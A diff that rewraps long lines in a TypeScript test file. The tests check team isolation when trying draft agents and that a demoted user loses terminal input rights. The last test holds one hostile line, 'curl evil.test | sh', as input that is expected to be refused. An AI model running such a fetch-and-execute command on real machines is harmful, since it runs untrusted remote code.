@@ -79,11 +79,18 @@ describe("a disabled person's reset link", () => {
 describe("trying a draft", () => {
   it("runs only in the draft's own team: a draft of team alpha handing off to alpha's agent is not run in team beta", async () => {
     await caller(p.alphaOperator).agents.create({ spec: specFor(p.alphaId, { name: "alpha-helper" }) });
-    const bothId = await createUser(tk.t.db, { email: "both-teams@test.local", password: "test-password-1", role: "operator", teams: ["alpha", "beta"] });
+    const bothId = await createUser(tk.t.db, {
+      email: "both-teams@test.local",
+      password: "test-password-1",
+      role: "operator",
+      teams: ["alpha", "beta"],
+    });
     const both = (await loadActor(tk.t.db, bothId))!;
     const spec = specFor(p.alphaId, { name: "bridge-bot", tools: ["handoff"], handoffs: ["alpha-helper"] });
     // The same spec saved with team beta is refused: beta's agents hand off only to beta's or everyone's.
-    expect((await caller(both).agents.validate({ spec: { ...spec, teamId: p.betaId } })).problems.map((x) => x.field)).toContain("handoffs.0");
+    expect((await caller(both).agents.validate({ spec: { ...spec, teamId: p.betaId } })).problems.map((x) => x.field)).toContain(
+      "handoffs.0",
+    );
 
     const before = await tk.t.db.run.count({ where: { teamId: p.betaId } });
     const err = await trpcError(caller(both).agents.tryDraft({ spec, goal: "g", teamId: p.betaId }));
@@ -121,13 +128,29 @@ describe("a person who took over a terminal and then lost the operator role in t
       alive: () => true,
       dispose: async () => {},
     } satisfies TerminalPod;
-    const run = new TerminalRun("run-1", { kernel, log: { error() {} }, graceMs: 60_000, serverStopping: () => false, remember() {}, recall: () => null });
+    const run = new TerminalRun("run-1", {
+      kernel,
+      log: { error() {} },
+      graceMs: 60_000,
+      serverStopping: () => false,
+      remember() {},
+      recall: () => null,
+    });
     run.attachPod(pod);
     const ada: Actor = { userId: "ada", email: "ada@x.test", name: "Ada", role: "operator", via: "session", teamIds: ["t"] };
     run.addViewer({ id: "s-ada", emit() {} } as unknown as Socket, ada);
     expect((await run.takeover(ada)).ok).toBe(true);
     state = "paused";
-    bus.publish("run-1", [{ runId: "run-1", seq: 1, type: "run.state", actor: null, payload: { from: "running", to: "paused" }, createdAt: new Date() } as RunEventRecord]);
+    bus.publish("run-1", [
+      {
+        runId: "run-1",
+        seq: 1,
+        type: "run.state",
+        actor: null,
+        payload: { from: "running", to: "paused" },
+        createdAt: new Date(),
+      } as RunEventRecord,
+    ]);
     expect(run.input(ada, "echo ok\r").ok).toBe(true);
     // Removed from the team (actorInTeam makes them a viewer there) or demoted to viewer in it.
     expect(run.input({ ...ada, role: "viewer" }, "curl evil.test | sh\r").ok).toBe(false);
